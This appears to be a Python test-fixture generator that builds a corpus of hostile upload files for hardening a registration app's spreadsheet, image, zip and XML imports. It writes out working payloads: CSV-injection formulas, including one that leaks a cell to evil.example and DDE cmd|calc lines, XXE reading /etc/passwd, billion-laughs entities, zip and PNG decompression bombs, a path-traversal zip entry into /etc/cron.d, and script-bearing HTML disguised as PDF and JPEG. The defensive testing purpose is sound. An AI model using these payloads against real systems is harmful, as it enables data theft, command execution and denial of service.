"""The hostile-file corpus of issue 20: every file an attacker (or a careless export) sends.

    .venv/bin/python -m tests.data.hostile.make_corpus      # rewrites the small files here

Small cases are committed beside this script so that anyone can open them; the large ones
(bombs, a 50 MB cell, a million rows, a 900-megapixel PNG) are built by the functions below at
test or benchmark time, streaming, so that building them costs little memory. Nothing here
imports Django: the benchmark runs these in a bare subprocess.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Iterator
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
# Any syntactically valid resident ID number; tests pass the cohort's own numbers instead.
SAMPLE_ID = "450102199003071234"
# The registration template's headers, in order (registration.services.import_table.COLUMNS;
# a test checks that the two agree).
REGISTRATION_HEADERS = (
    "证件类型", "证件号码", "姓名", "民族", "文化程度", "手机号码", "考生来源", "工作单位",
    "通讯地址", "电子邮箱", "申报职业", "工种", "申报等级", "本职业工作年限", "原证书编号",
    "原证书等级", "原证书发证日期", "学历/毕业院校类别", "专业是否对口", "毕业时间",
    "理论考试类型", "技能考试类型",
)  # fmt: skip
# Payloads from OWASP's CSV-injection page, one per dangerous first character.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

# ---------------------------------------------------------------------------------------------
# .xlsx written by hand, so that every part can lie

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.worksheet+xml"/>'
    b"</Types>"
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
# The catalogue import reads sheets by name: its hostile files name their sheet 职业.
CATALOG_SHEET = "职业"
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def column_name(index: int) -> str:
    name = ""
    while index > 0:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def _cell(ref: str, value: object) -> str:
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return (
        f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'
    )


def row_xml(number: int, values: Iterable[object]) -> str:
    cells = "".join(
        _cell(f"{column_name(i)}{number}", v) for i, v in enumerate(values, start=1) if v != ""
    )
    return f'<row r="{number}">{cells}</row>'


def _info(name: str) -> zipfile.ZipInfo:
    """A fixed date, so that the committed files are the same on every run."""
    info = zipfile.ZipInfo(name, (2026, 3, 1, 9, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def xlsx_parts(
    sheet_chunks: Iterable[bytes],
    *,
    shared_strings: bytes | None = None,
    level: int = 6,
    sheet_name: str = "Sheet1",
) -> bytes:
    """An .xlsx whose sheet XML is written from ``sheet_chunks`` as they come (streaming)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr(_info("[Content_Types].xml"), CONTENT_TYPES)
        archive.writestr(_info("_rels/.rels"), ROOT_RELS)
        archive.writestr(_info("xl/workbook.xml"), WORKBOOK.replace(b"Sheet1", sheet_name.encode()))
        archive.writestr(_info("xl/_rels/workbook.xml.rels"), WORKBOOK_RELS)
        if shared_strings is not None:
            archive.writestr(_info("xl/sharedStrings.xml"), shared_strings)
        with archive.open(_info("xl/worksheets/sheet1.xml"), "w", force_zip64=True) as fh:
            for chunk in sheet_chunks:
                fh.write(chunk)
    return out.getvalue()


def sheet(
    rows: Iterable[str], *, dimension: str | None = None, prolog: bytes = b""
) -> Iterator[bytes]:
    yield prolog or SHEET_HEAD
    if dimension:
        yield f'<dimension ref="{dimension}"/>'.encode()
    yield b"<sheetData>"
    for row in rows:
        yield row.encode()
    yield b"</sheetData></worksheet>"


def registration_xlsx(rows: Iterable[Iterable[object]]) -> bytes:
    """A registration file with the template's headers and the given data rows."""
    body = [row_xml(1, REGISTRATION_HEADERS)]
    body += [row_xml(n, r) for n, r in enumerate(rows, start=2)]
    return xlsx_parts(sheet(body))


def far_cell_xlsx(*, honest_dimension: bool = True, sheet_name: str = "Sheet1") -> bytes:
    """One cell at XFD1048576 (2 KB): a dense reader allocates 17 billion cells."""
    dimension = "A1:XFD1048576" if honest_dimension else "A1"
    rows = [row_xml(1, ["证件类型"]), '<row r="1048576">' + _cell("XFD1048576", "x") + "</row>"]
    return xlsx_parts(sheet(rows, dimension=dimension), sheet_name=sheet_name)


def many_rows_xlsx(count: int) -> bytes:
    """``count`` identical short rows; a million of them is a 5 MB file."""
    row = ["居民身份证", SAMPLE_ID, "韦小宝"]

    def rows() -> Iterator[str]:
        yield row_xml(1, REGISTRATION_HEADERS)
        for n in range(2, count + 2):
            yield row_xml(n, row)

    return xlsx_parts(sheet(rows()), level=9)


def long_cell_xlsx(chars: int, *, incompressible: bool = False) -> bytes:
    """One cell of ``chars`` characters: 50 MB of one letter is a 50 KB file (and a bomb by its
    ratio); ``incompressible`` letters make a file about as large as the text."""
    head = row_xml(1, REGISTRATION_HEADERS)

    def chunks() -> Iterator[bytes]:
        yield SHEET_HEAD + b"<sheetData>" + head.encode()
        yield b'<row r="2"><c r="C2" t="inlineStr"><is><t>'
        if incompressible:
            import random

            block = bytes(random.Random(20).choices(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ", k=1024 * 1024))
        else:
            block = b"A" * (1024 * 1024)
        left = chars
        while left > 0:
            yield block[: min(left, len(block))]
            left -= len(block)
        yield b"</t></is></c></row></sheetData></worksheet>"

    return xlsx_parts(chunks(), level=9)


def bomb_xlsx(megabytes: int) -> bytes:
    """A sheet padded with ``megabytes`` MB of blanks: a compression ratio near 1000."""

    def chunks() -> Iterator[bytes]:
        yield SHEET_HEAD + b"<sheetData>" + row_xml(1, REGISTRATION_HEADERS).encode()
        block = b" " * (1024 * 1024)
        for _ in range(megabytes):
            yield block
        yield b"</sheetData></worksheet>"

    return xlsx_parts(chunks(), level=9)


XXE_SHEET = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
    b"</sheetData></worksheet>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)
LAUGHS_SHARED = (
    LAUGHS + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    b'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
)


def xxe_xlsx(sheet_name: str = "Sheet1") -> bytes:
    return xlsx_parts([XXE_SHEET], sheet_name=sheet_name)


def billion_laughs_xlsx() -> bytes:
    rows = [row_xml(1, REGISTRATION_HEADERS), '<row r="2"><c r="C2" t="s"><v>0</v></c></row>']
    return xlsx_parts(sheet(rows), shared_strings=LAUGHS_SHARED)


def formula_rows(id_number: str = SAMPLE_ID) -> list[list[str]]:
    """Rows whose checked columns carry formulas, so each comes back in the error report."""
    rows = []
    for payload in FORMULAS:
        row = dict.fromkeys(REGISTRATION_HEADERS, "")
        row |= {
            "证件类型": "居民身份证",
            "证件号码": id_number,
            "姓名": "韦小宝",
            "手机号码": payload,
            "电子邮箱": payload,
            "申报等级": payload,
        }
        rows.append([row[h] for h in REGISTRATION_HEADERS])
    return rows


def csv_bytes(rows: Iterable[Iterable[object]], encoding: str = "utf-8") -> bytes:
    import csv

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(REGISTRATION_HEADERS)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def long_field_csv(chars: int = 200 * 1024) -> bytes:
    row = dict.fromkeys(REGISTRATION_HEADERS, "")
    row |= {"证件类型": "居民身份证", "证件号码": SAMPLE_ID, "姓名": "A" * chars}
    return csv_bytes([[row[h] for h in REGISTRATION_HEADERS]])


def bidi_name_csv(id_number: str = SAMPLE_ID) -> bytes:
    """A name with a right-to-left override and one with a NUL and a BEL in it."""
    rows = []
    for name in ("韦\u202egpj.exe", "韦\x00小\x07宝"):
        row = dict.fromkeys(REGISTRATION_HEADERS, "")
        row |= {"证件类型": "居民身份证", "证件号码": id_number, "姓名": name}
        rows.append([row[h] for h in REGISTRATION_HEADERS])
    return csv_bytes(rows)


# ---------------------------------------------------------------------------------------------
# Images and PDFs


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int, height: int) -> bytes:
    """A valid black-and-white PNG of width×height pixels: 100 MP is 12 KB, 900 MP 110 KB."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def small_jpeg(size: tuple[int, int] = (295, 413)) -> bytes:
    """A white JPEG of ID-photo size, written by Pillow (imported here only)."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, "JPEG", quality=60)
    return out.getvalue()


HTML_AS_PDF = b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n"
HTML_PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"

# ---------------------------------------------------------------------------------------------
# Zips


def zip_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(
                zipfile.ZipInfo(name, (2026, 3, 1, 9, 0, 0)), data, zipfile.ZIP_DEFLATED
            )
    return out.getvalue()


def _rewrite(data: bytes, local_offset: int, central_offset: int, fmt: str, change) -> bytes:
    """``change`` applied to one field of every local header (PK\\3\\4) and central record."""
    buf = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", local_offset), (b"PK\x01\x02", central_offset)):
        start = 0
        while (at := buf.find(signature, start)) != -1:
            (old,) = struct.unpack_from(fmt, buf, at + offset)
            struct.pack_into(fmt, buf, at + offset, change(old))
            start = at + 4
    return bytes(buf)


def bad_crc_zip(name: str, data: bytes) -> bytes:
    """The entry's CRC-32 is off by one bit in both headers."""
    return _rewrite(zip_of({name: data}), 14, 16, "<I", lambda crc: crc ^ 1)


def lying_size_zip(name: str, data: bytes, *, declared: int | None = None) -> bytes:
    """The headers declare ``declared`` uncompressed bytes (default: 100) instead of the truth."""
    value = 100 if declared is None else declared
    return _rewrite(zip_of({name: data}), 22, 24, "<I", lambda _: value)


def encrypted_zip(name: str, data: bytes) -> bytes:
    """The encryption flag set on the entry (what a password-protected zip carries)."""
    return _rewrite(zip_of({name: data}), 6, 8, "<H", lambda flags: flags | 0x1)


def traversal_zip(data: bytes) -> bytes:
    return zip_of({"../../etc/cron.d/evil.jpg": data})


def nested_zip(name: str, data: bytes) -> bytes:
    return zip_of({name: data, "inner.zip": zip_of({name: data})})


def many_entries_zip(count: int) -> bytes:
    return zip_of({f"{i:05d}.jpg": b"x" for i in range(count)})


def bomb_zip(name: str, megabytes: int = 200) -> bytes:
    """One entry of ``megabytes`` MB of zeros, compressed about a thousand to one."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(_info(name), "w", force_zip64=True) as fh,
    ):
        block = b"\x00" * (1024 * 1024)
        for _ in range(megabytes):
            fh.write(block)
    return out.getvalue()


# ---------------------------------------------------------------------------------------------
# XML for the later QTI import

XXE_XML = (
    b'<?xml version="1.0"?><!DOCTYPE item [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<assessmentItem><itemBody>&xxe;</itemBody></assessmentItem>"
)
LAUGHS_XML = LAUGHS + b"<assessmentItem>&lol9;</assessmentItem>"


def small_corpus() -> dict[str, bytes]:
    """The committed files: each case of issue 20's findings 1–3 at a size worth keeping."""
    jpeg = small_jpeg()
    photo = f"{SAMPLE_ID}.jpg"
    return {
        "xlsx_far_cell.xlsx": far_cell_xlsx(),
        "xlsx_far_cell_lying_dimension.xlsx": far_cell_xlsx(honest_dimension=False),
        "xlsx_formula_injection.xlsx": registration_xlsx(formula_rows()),
        "csv_formula_injection.csv": csv_bytes(formula_rows()),
        "xlsx_xxe.xlsx": xxe_xlsx(),
        "xlsx_billion_laughs.xlsx": billion_laughs_xlsx(),
        "csv_bidi_and_control_names.csv": bidi_name_csv(),
        "png_100_megapixels.png": png_bomb(10_000, 10_000),
        "pdf_that_is_html.pdf": HTML_AS_PDF,
        "jpeg_named_id_back.html": jpeg,
        "html_named_photo.jpg": HTML_PAGE,
        "zip_bad_crc.zip": bad_crc_zip(photo, jpeg),
        "zip_lying_size.zip": lying_size_zip(photo, jpeg),
        "zip_encrypted_entry.zip": encrypted_zip(photo, jpeg),
        "zip_traversal.zip": traversal_zip(jpeg),
        "zip_nested.zip": nested_zip(photo, jpeg),
        "zip_html_as_id_back.zip": zip_of({f"{SAMPLE_ID}/id_back.html": HTML_PAGE}),
        "xml_xxe.xml": XXE_XML,
        "xml_billion_laughs.xml": LAUGHS_XML,
    }


def large_corpus() -> dict[str, bytes]:
    """Built at run time only (benchmark): the large cases of findings 1 and 3."""
    jpeg = small_jpeg()
    return {
        "xlsx_one_million_rows.xlsx": many_rows_xlsx(1_000_000),
        "xlsx_100k_rows.xlsx": many_rows_xlsx(100_000),
        "xlsx_50_mb_cell.xlsx": long_cell_xlsx(50 * 1024 * 1024),
        "xlsx_zip_bomb_500_mb.xlsx": bomb_xlsx(500),
        "csv_200_kb_field.csv": long_field_csv(),
        "png_900_megapixels.png": png_bomb(30_000, 30_000),
        "zip_bomb_1_gb.zip": bomb_zip(f"{SAMPLE_ID}.jpg", 1024),
        "zip_6000_entries.zip": many_entries_zip(6000),
        "zip_lying_size_large.zip": lying_size_zip(f"{SAMPLE_ID}.jpg", jpeg, declared=900_000),
    }


def main() -> None:
    for name, data in small_corpus().items():
        (HERE / name).write_bytes(data)
        print(f"{name:40} {len(data):>9,} bytes")


if __name__ == "__main__":
    main()
